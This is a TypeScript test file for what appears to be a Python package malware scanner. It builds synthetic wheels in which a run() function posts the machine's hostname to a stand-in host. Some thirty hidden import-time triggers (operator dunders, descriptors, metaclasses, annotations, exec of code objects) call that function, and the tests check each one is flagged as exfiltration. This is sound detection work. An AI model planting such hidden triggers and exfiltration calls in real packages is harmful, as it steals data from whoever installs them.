import { describe, expect, test } from 'vitest';
import { inspect, python, wheel } from '../../../support/inspect.ts';

/** A module in which `run()` tells a host this machine's name. */
function runner(...lines: readonly string[]): string {
  return python(
    'import requests, socket',
    'def run():',
    "    requests.post('https://collector.metrics.invalid/a', data={'n': socket.gethostname()})",
    ...lines,
  );
}

/** A class with one method that acts, and what asks for it. */
function method(signature: string, use: string, gives = 'None'): readonly string[] {
  return ['class A:', `    def ${signature}:`, '        run()', `        return ${gives}`, use];
}

const OPERATORS: readonly (readonly [string, readonly string[]])[] = [
  ['a sum', method('__add__(self, o)', 'A() + 1')],
  ['a sum from the right', method('__radd__(self, o)', '1 + A()')],
  ['a sum in place', ['a = 1', ...method('__iadd__(self, o)', 'a = A()', 'self'), 'a += 1']],
  ['a shift', method('__lshift__(self, o)', 'A() << 1')],
  ['a sign', method('__neg__(self)', '-A()')],
  ['a comparison', method('__lt__(self, o)', 'A() < 1', 'True')],
  ['a test of equality', method('__eq__(self, o)', '1 == A()', 'True')],
  ['a search', method('__contains__(self, o)', '1 in A()', 'True')],
  ['a condition', method('__bool__(self)', 'if A(): pass', 'True')],
  ['a set', method('__hash__(self)', '{A()}', '1')],
  ['an index', method('__index__(self)', '[1][A()]', '0')],
  ['an entry that is set', method('__setitem__(self, k, v)', 'A()[0] = 1')],
  ['an entry that is missing', ['class A(dict):', '    def __missing__(self, k):', '        run()', "A()['k']"]],
  ['an attribute that is read', method('__getattribute__(self, n)', 'A().x')],
  ['an attribute that is set', method('__setattr__(self, n, v)', 'A().x = 1')],
  [
    'an attribute that is deleted',
    ['class A:', '    def __delattr__(self, n):', '        run()', 'a = A()', 'del a.x'],
  ],
  [
    'a setter',
    [
      'class A:',
      '    @property',
      '    def v(self): return 1',
      '    @v.setter',
      '    def v(self, x): run()',
      'A().v = 2',
    ],
  ],
  ['a descriptor', ['class D:', '    def __get__(self, o, t): run()', 'class A:', '    x = D()', 'A.x']],
  ['a walk', method('__iter__(self)', 'for x in A(): pass', 'iter(())')],
  ['a list', method('__iter__(self)', 'list(A())', 'iter(())')],
  ['several names', method('__iter__(self)', 'a, b = A()', 'iter((1, 2))')],
  ['a text', method('__str__(self)', "'%s' % A()", "''")],
  ['a form', method('__format__(self, s)', "'{}'.format(A())", "''")],
  ['a path', ['import os', ...method('__fspath__(self)', 'os.path.exists(A())', "'x'")]],
  ['a subscript of the class', method('__class_getitem__(cls, k)', 'A[int]')],
  ['a class of a class', ['class M(type):', '    def __call__(cls): run()', 'class A(metaclass=M): pass', 'A()']],
  ['a function as a class of classes', ['def m(n, b, d):', '    run()', 'class A(metaclass=m): pass']],
  [
    'an exception that is raised as a class',
    ['class E(Exception):', '    def __init__(self): run()', 'try:', '    raise E', 'except E:', '    pass'],
  ],
  ['an annotation', ['def f(x: run()): pass']],
  ['the code of a function', ['exec(run.__code__)']],
  ['a function made of code', ['import types', 'types.FunctionType(run.__code__, globals())()']],
];

describe('what an operator asks of an object runs where the operator stands', () => {
  test.each(OPERATORS)('%s', async (_, lines) => {
    expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': runner(...lines) }))).toMatchObject([
      { class: 'malware', context: 'import', line: 3 },
    ]);
  });

  test('an operator that nobody uses runs nothing at import', async () => {
    const lines = ['class A:', '    def __add__(self, o):', '        run()', 'a = A()'];

    expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': runner(...lines) }))).toMatchObject([
      { context: 'call' },
    ]);
  });
});
